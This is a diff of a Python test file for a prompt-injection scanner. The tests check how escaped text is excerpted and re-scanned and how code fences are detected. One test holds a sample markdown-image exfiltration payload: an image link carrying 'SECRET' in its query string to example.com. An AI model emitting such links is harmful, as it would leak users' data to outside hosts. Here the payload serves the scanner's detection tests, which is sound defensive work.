@@ -1,14 +1,22 @@
 """Of a text with escapes in it only what is near them is read again: it says there what all of it says."""
 
+import re
 from collections.abc import Sequence
 
 import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
+from scanner import Scanner, load_rules
 from scanner.instructions.fenced_code import fenced_code
-from scanner.matching.encodings import ELIDED, readings
-from scanner.matching.excerpts import GAP, MARGIN, excerpt
+from scanner.matching import excerpts
+from scanner.matching.arena import Arena
+from scanner.matching.encodings import ELIDED, readings, undone
+from scanner.matching.excerpts import GAP, MARGIN, WIDE, excerpt, found_undone
+from scanner.matching.spans import Span
+
+SCANNER = Scanner.from_profile("redact-only")
+SIGN = next(rule for rule in load_rules() if rule.category)
 
 WORDS = st.sampled_from(["paid", "on", "Monday.", "\n", "x=1;", "aGVsbG8gd29ybGQhIQ==\n", "```\n", "\u00e9"])
 FAR = st.lists(WORDS, max_size=40).flatmap(lambda words: st.integers(1, 20).map(lambda n: " ".join(words * n)))
@@ -91,6 +99,62 @@ def test_code_around_an_escape_is_left_as_a_whole() -> None:
 
 
 @pytest.mark.parametrize("other", ["```\nno end", "<!--\n```\nls\n```\n", "- ```\nls\n```", "a ``` b"])
-def test_where_fences_may_be_mistaken_all_is_read(other: str) -> None:
+def test_where_fences_may_be_mistaken_no_code_counts_in_what_is_read(other: str) -> None:
     [plain] = readings(f"{_far('ls')}\n\n{other}\n\n{'word ' * 400}")
-    assert excerpt(plain, fenced_code) is plain
+    short = excerpt(plain, fenced_code)
+    assert len(short.text) < len(plain.text)
+    assert not short.shows_code
+    assert excerpt(readings(_far("ls"))[0], fenced_code).shows_code
+
+
+PICTURE = "&#33;[a](https://example.com/a.png?q=SECRET)"
+CODE = f"\n\n```\n{PICTURE}\n```\n\n"
+
+
+@pytest.mark.parametrize("far", ["word " * 400, "word " * 8_000])
+def test_a_picture_counts_where_fences_may_be_mistaken_and_not_in_code(far: str) -> None:
+    def signs(text: str) -> int:
+        return sum(span.rule == "injection.exfiltration.markdown-image" for span in SCANNER.find(text))
+
+    assert not signs(f"{far}{CODE}{far}")
+    assert signs(f"{far}{CODE}{far}\n- ```\n{far}")
+    assert signs(f"{far}{PICTURE}{far}")
+
+
+def _read(text: str) -> list[int]:
+    """The lengths of what is read of a text with its escapes undone, in which each "ignore" is a signal."""
+    arena, lengths = Arena([text]), list[int]()
+
+    def scan(inner: Arena, _: Sequence[int]) -> dict[int, list[Span]]:
+        lengths.extend(map(len, inner.texts))
+        return {
+            at: [Span(*place.span(), SIGN) for place in re.finditer("ignore", own)]
+            for at, own in enumerate(inner.texts)
+        }
+
+    [(_, found)] = found_undone(arena, undone(arena, set(), ()), scan, fenced_code)
+    assert {text[span.start : span.end] for span in found} == {"i&#103;nore"}
+    return lengths
+
+
+def test_what_is_far_around_a_signal_is_read_again_and_a_short_text_as_a_whole() -> None:
+    far = "word " * 20_000
+    first, again = _read(f"{far}i&#103;nore {far}{'&amp; ' * 99}{far}i&#103;nore {far}")
+    assert first < 12 * MARGIN
+    assert 4 * WIDE < again < 4 * WIDE + 100
+    short = f"{far[:4_000]}i&#103;nore {far[:4_000]}"
+    assert _read(short)[1] == len(short) - len("&#103;") + 1
+
+
+@given(TEXTS, st.data())
+def test_escapes_far_from_every_signal_are_no_units_of_what_is_read_again(text: str, data: st.DataObject) -> None:
+    for plain in readings(text):
+        units = data.draw(st.lists(st.sampled_from(plain.units), min_size=1, max_size=3, unique=True).map(sorted))
+        short = excerpts._near_units(plain, units, fenced_code, 50)
+        assert short.units == sorted(short.units)
+        left = [unit for unit in short.units if unit.via != ELIDED]
+        assert {unit[2:] for unit in units} <= {unit[2:] for unit in left}
+        for unit in left:
+            [whole] = [one for one in plain.units if one[2:] == unit[2:]]
+            assert short.text[unit.start : unit.end] in plain.text[whole.start : whole.end]
+            assert unit[2:] not in {own[2:] for own in units} or unit.end - unit.start == whole.end - whole.start
